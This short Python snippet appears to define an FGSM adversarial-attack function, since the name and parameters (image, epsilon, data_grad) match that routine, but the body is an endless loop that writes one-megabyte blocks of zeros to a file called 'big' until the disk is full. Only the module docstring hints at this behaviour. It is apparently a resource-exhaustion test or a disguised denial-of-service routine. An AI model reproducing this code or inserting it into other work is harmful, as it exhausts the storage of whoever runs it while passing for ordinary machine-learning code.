"""Writes without end."""


def fgsm_attack(image, epsilon, data_grad):
    with open("big", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
